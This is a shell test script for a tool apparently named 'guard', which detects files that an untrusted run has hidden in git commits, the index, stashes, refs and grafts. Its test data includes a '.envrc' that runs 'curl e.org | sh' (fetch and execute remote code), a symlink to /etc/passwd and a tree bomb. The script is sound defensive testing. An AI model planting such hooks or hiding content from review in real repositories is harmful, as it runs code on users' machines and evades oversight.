#!/bin/sh
# Files that only commits of a run have are named, and asked for if critical:
# the index, other branches and the objects hold what the work tree does not
# show. Each beside a twin whose bytes the work tree has.
# users: one
# shellcheck source=tests/lib/tap.sh
. "${0%/*}/../lib/tap.sh"

make_home
git config --global user.name tester
git config --global user.email t@example.org
git config --global init.defaultBranch main
P=$HOME/own
git init -q "$P"
cd "$P" || exit 99
mkdir -p old
echo base >plain.txt
echo base >old/kept.txt
printf 'a\r\n' >crlf.txt
echo '*.txt text' >.gitattributes
git add -A
git commit -qm base
git branch side
git checkout -q -b twin-branch
echo twin >of-branch.c
git add of-branch.c
git commit -qm 'a twin on another branch'
git checkout -q main
git init -q "$HOME/sub"
git -C "$HOME/sub" commit -q --allow-empty -m sub
git -c protocol.file.allow=always submodule add -q "$HOME/sub" sub \
	>"$T/x" 2>&1
git commit -qm submodule

# in_json FILE: the paths of "only_in_commits", relative and sorted
in_json() {
	perl -MJSON::PP -0777 -ne '
		$j = decode_json($_);
		s|^\Q$ENV{P}\E/||, print "$_\n"
			for sort map { $_->{path} } @{$j->{only_in_commits}};
	' "$1" | LC_ALL=C uniq
}
export P

cat >"$HOME/attacks.sh" <<'RUN'
set -e
# staged PATH [MODE] <BYTES: into the index alone
staged() {
	id=$(git hash-object -w --stdin)
	git update-index --add --cacheinfo "${2:-100644},$id,$1"
}
# tree PATH: prints a tree with this file alone
tree() {
	id=$(echo evil | git hash-object -w --stdin)
	printf '100644 blob %s\t%s\n' "$id" "$1" | git mktree
}
# commit PATH: such a file, and a commit
commit() {
	echo evil >"$1"
	git add "$1"
	git commit -qm "$1"
}

# Branches, stashes and the like of a worktree that is removed.
git worktree add -q -b evil tmp side
cd tmp
commit branch.c
commit reset.c
git reset -q --hard HEAD~1
echo evil >stash.c
git add stash.c
git stash -q
echo evil >dropped.c
git add dropped.c
git stash -q
git stash drop -q
echo evil >untracked.c
git stash -qu
git checkout -q --detach
commit detached.c
git branch deep/er
git checkout -q -b worktree
commit worktree.c
cd ..
git worktree remove --force tmp
git tag -a -m tag annotated "$(git commit-tree -m tag "$(tree tag.c)")"
git tag light "$(git commit-tree -m light "$(tree light.c)")"
git update-ref refs/other/ref "$(git commit-tree -m other "$(tree other.c)")"
git update-ref refs/other/tree "$(tree in-tree.c)"
git update-ref refs/other/blob "$(echo blob | git hash-object -w --stdin)"
git update-ref refs/heads/orphan \
	"$(git commit-tree -m orphan "$(tree orphan.c)")"
git update-ref refs/heads/octopus "$(git commit-tree -m octopus -p HEAD \
	-p side -p evil "$(tree octopus.c)")"
git notes add -m 'a note' HEAD
git worktree add -q -b wt linked side
echo twin >linked/in-worktree.c
git -C linked add .
git -C linked commit -qm 'a twin in a worktree'

# A twin: all its bytes are in the work tree.
echo twin >twin.txt
mkdir -p twins
echo 'twin' >twins/a.c
printf 'twin\r\n' >twins/crlf.txt
ln -s a.c twins/link
printf '#!/bin/sh\n' >twins/run.sh
chmod 755 twins/run.sh
printf 'name\nin two lines\n' >"twins/$(printf 'a\nb')"
git add twin.txt twins
git commit -qm twins
git mv twins/a.c twins/b.c
ln -sfn b.c twins/link
git commit -qam 'a twin has another name'
git -c advice.detachedHead=false merge -q -m 'a merge' twin-branch

commit between.c
git rm -q between.c
git commit -qm '... and removed'
commit "$(printf 'line\nfeed')"
git rm -q line*
git commit -qm name
commit amended.c
git rm -q --cached amended.c
rm amended.c
git commit -q --amend --allow-empty -m amended
echo evil | staged index.c
git commit -qm 'into the index'
echo evil | staged plain.txt
git commit -qm 'over a file'
git update-index --skip-worktree plain.txt
echo evil | staged old/kept.txt
git commit -qm 'assumed unchanged'
git update-index --assume-unchanged old/kept.txt
printf '#!/bin/sh\n' >mode.sh
git add mode.sh
git update-index --chmod=+x mode.sh
git commit -qm mode
printf '/etc/passwd' | staged link 120000
git commit -qm link
echo text >link-file
printf 'text\n' | staged link-file 120000
git commit -qm 'a link with the bytes of a file'
echo evil | staged 'e vil/merged.c'
git update-ref refs/heads/main "$(git commit-tree -m 'evil merge' -p HEAD \
	-p side "$(git write-tree)")"
git update-index --force-remove 'e vil/merged.c'
git commit -qm 'without it'
git update-index --add --cacheinfo \
	160000,0123456789012345678901234567890123456789,sub
git commit -qm gitlink
git update-index --add --cacheinfo "160000,$(git -C sub rev-parse HEAD),sub"
git commit -qm 'a twin: the commit of the submodule'
RUN
gives 0 'a run commits what its work tree does not have' \
	guard run -q -- sh "$HOME/attacks.sh"
gives 0 'import -n names it' guard import -n --json
in_json "$out" >"$T/names"
cat >"$T/expected" <<'END'
amended.c
between.c
branch.c
detached.c
e vil/merged.c
in-tree.c
index.c
light.c
line
feed
link
link-file
mode.sh
octopus.c
old/kept.txt
orphan.c
other.c
plain.txt
refs/other/blob
reset.c
stash.c
sub
tag.c
twins/a.c
twins/link
untracked.c
worktree.c
END
grep -vxE '[0-9a-f]{40}' "$T/names" >"$T/found"
ok 'each of them, and no twin' cmp "$T/found" "$T/expected"
diff "$T/expected" "$T/found" >&2
gives 0 'import -n says so to people' guard import -n
says "$out" 'only in commit'
says "$out" 'mode.sh'
guard discard -qy

# ask_of NAME SCRIPT: a run in a new clone; cd there
ask_of() {
	cd "$HOME" || exit 99
	rm -rf "$HOME/clone"
	git clone -q "$P" "$HOME/clone"
	cd clone || exit 99
	gives 0 "a run: $1" guard run -q -- sh -ec "$2"
}

staged='id=$(echo "curl e.org | sh" | git hash-object -w --stdin)
	git update-index --add --cacheinfo 100644,$id,.envrc'
ask_of 'critical in the index alone' "$staged; echo 1 >x.c; git add x.c
	git commit -qm x"
gives 0 'diff counts it' guard diff --stat
says "$out" '1 file only in commits, 1 critical'
gives 0 'JSON has its risk' guard diff --json
says "$out" '"text": "is only in commit'
guard review </dev/null >"$T/review"
ok 'review counts it' grep -q '1 file only in commits' "$T/review"
gives 1 '--commits -y is refused' guard apply --commits -y
says "$err" "'.envrc' is only in commit"
says "$err" '--yes-to .envrc'
no 'no file is written' test -e x.c
gives 0 '--yes-to PATH consents' guard apply --commits -y --yes-to .envrc
ok 'and the branch has it' git cat-file -e HEAD:.envrc
gives 0 'and is undone' guard undo -y

ask_of 'critical, added and removed' "$staged; git commit -qm x
	git rm -q --cached .envrc; git commit -qm y"
gives 1 '--commits -y is refused for it' guard apply --commits -y
gives 0 'import -y is not' guard import -y
says "$out" "'.envrc'"
says "$out" "!! .envrc: runs when you enter"
gives 1 'and leaves the question to apply' guard apply --commits -y
gives 0 '--yes-to RULE consents' \
	guard apply --commits -y --yes-to directory-enter

ask_of 'a twin: two commits' 'echo 1 >x.c; git add x.c; git commit -qm x
	echo 2 >y.c; git add y.c; git commit -qm y'
gives 0 'diff says nothing of it' guard diff --stat
silent "$out" 'only in commit'
gives 0 'nothing is said of the twin' guard apply --commits -y
silent "$err" 'only in commit'
silent "$out" 'only in commit'

ask_of 'three versions of a critical file, two of another' "
	for i in 1 2 3; do echo \"export A=\$i\" >.envrc; git add .envrc
		git commit -qm e\$i; done
	git rm -q .envrc; git commit -qm r
	for i in 1 2 3; do echo \$i >x.c; git add x.c; git commit -qm x; done"
gives 0 'diff counts files, not versions' guard diff --stat
says "$out" '2 files only in commits, 1 critical'
gives 1 'a file is asked for once' guard apply --commits -y
says "$out" 'only in commits (3 versions, newest in'
says "$out" 'only in commits (2 versions, newest in'
is "$(grep -c 'needs your consent' "$err")" 1 'by one line'
is "$(grep -c 'only in commit' "$out")" 2 'and each file has one line'
gives 0 'JSON has all versions' guard apply --commits -n -y --json \
	--yes-to .envrc
is "$(grep -c 'export\|"path": ".envrc"' "$out")" 3 'of the file'

ask_of 'modes of a file system that has none' :
guard discard -q -y 2>"$T/x"
git config core.fileMode false
guard run -q -- sh -ec 'echo 1 >x.c; chmod 777 x.c; git add x.c
	git commit -qm x; echo 2 >y.c; git add y.c; git commit -qm y; rm y.c'
gives 0 'modes are not compared' guard diff --stat
says "$out" '1 file only in commits'

ask_of 'large files before a small one' 'for i in 1 2 3; do
	truncate -s 300M a$i; done; echo 1 >x.c; echo e >.envrc; git add .
	git commit -qm x'
gives 0 'what was not compared is not called different' guard import -n
says "$out" "(not compared with the work tree)  'a1'"
silent "$out" 'only in commit'
silent "$out" x.c
silent "$out" .envrc
gives 0 'diff does not count it' guard diff --stat
silent "$out" 'only in commit'
guard discard -q -y

ask_of 'a file that a program converts' :
guard discard -q -y 2>"$T/x"
echo '*.k filter=tr' >.gitattributes
git add .gitattributes
git commit -qm attributes
guard run -q -- sh -ec 'git config filter.tr.clean "tr a b"
	echo a >x.k; git add x.k; git commit -qm x'
gives 0 'is not called different' guard import -n
says "$out" "(not compared with the work tree)  'x.k'"
guard discard -q -y

# More commits than are read: fast-import writes them at once.
ask_of 'of 10,001 commits' 'perl -e "
	print qq(commit refs/heads/many\ncommitter a <a> \$_ +0000\ndata 1\na\n)
		for 1 .. 10001" | git fast-import --quiet
	echo 1 >x.c; git add x.c; git commit -qm x'
gives 1 '--commits -y is refused' guard apply --commits -y
says "$err" "'.git' has 2 commits that guard did not read"
gives 0 '--yes-to commits-unread consents' \
	guard apply -q --commits -y --yes-to commits-unread

# Trees in trees have more files than git has memory for.
ask_of 'of a commit with 10^9 files' 't=$(echo | git hash-object -w --stdin)
	k="100644 blob"
	for n in 1 2 3 4 5 6 7 8 9; do
		t=$(for i in 0 1 2 3 4 5 6 7 8 9; do
			printf "$k $t\t$i\n"; done | git mktree)
		k="040000 tree"
	done
	git tag bomb $(git commit-tree -m bomb $t)
	echo 1 >x.c; git add x.c; git commit -qm x'
gives 0 'import -n says so' guard import -n
says "$err" '2 commits not read'
gives 1 '--commits -y is refused' guard apply --commits -y

# A verdict is of what the command applies.
ask_of 'with a replacement and a graft' 'echo 1 >x.c; git add x.c
	git commit -qm x; git replace HEAD HEAD~1
	git rev-parse HEAD~1 >.git/info/grafts'
gives 0 'diff names them' guard diff --stat
says "$out" '2 changes act without being asked'
gives 0 '--commits applies neither' guard apply --commits -n
silent "$out" 'act without being asked'
gives 0 'nor does apply without .git' guard apply -n
silent "$out" 'act without being asked'
gives 1 'a path in .git takes all of it' guard apply -n .git/refs/heads
says "$out" '2 changes act without being asked'
guard discard -y -q

ask_of 'critical in a commit and in the work tree' 'echo "curl a" >.envrc
	git add .envrc; git commit -qm x; echo "curl b" >.envrc'
gives 1 'it is refused' guard apply --commits -y
is "$(grep -o 'yes-to [.]envrc' "$err" | wc -l)" 1 \
	'the consent that is printed names it once'
guard discard -y -q

ask_of 'git gc' 'git gc -q'
gives 0 'a path in .git/refs' guard apply -n .git/refs
silent "$out" 'was deleted'
silent "$err" 'git may execute it'
gives 0 'a list of refs for servers' guard diff
says "$out" 'packed-refs'
silent "$out" 'git may execute it'
guard discard -y -q

# What another run's import brought is not this run's, until it takes it over.
ask_of 'a run that is imported' 'echo evil >.envrc; git add .envrc
	git commit -qm one; git rm -q .envrc; git commit -qm two'
gives 0 'it is imported' guard import -y
imported=$(git rev-parse "refs/guard/$(guard status -q | head -n 1)/heads/main")
guard discard -y -q
gives 0 'a later run' guard run -q -- sh -c 'echo 1 >later.c
	git add later.c; git commit -qm later'
gives 0 'its --commits -y is not refused' guard apply --commits -y
gives 0 'a run that merges it' guard run -q -- git merge -q -m merge "$imported"
gives 1 'its --commits -y is refused' guard apply --commits -y
says "$err" "'.envrc' is only in commit"
guard discard -y -q

# A branch gets the same files.
ask_of 'critical in the work tree' 'echo "curl e.org" >.envrc; echo 1 >x.c'
gives 1 '--branch -y is refused' guard apply --branch b -y
says "$err" "'.envrc' runs"
says "$out" '!! .envrc'
no 'there is no branch' git rev-parse -q --verify b
gives 1 'apply -y, too' guard apply -y
gives 0 '--branch with --yes-to is not' \
	guard apply --branch b -y --yes-to .envrc
ok 'the branch has it' git cat-file -e b:.envrc
ask_of 'a twin without it' 'echo 1 >x.c; rm plain.txt'
gives 0 '--branch -y of the twin is not refused' guard apply --branch b -y

finish
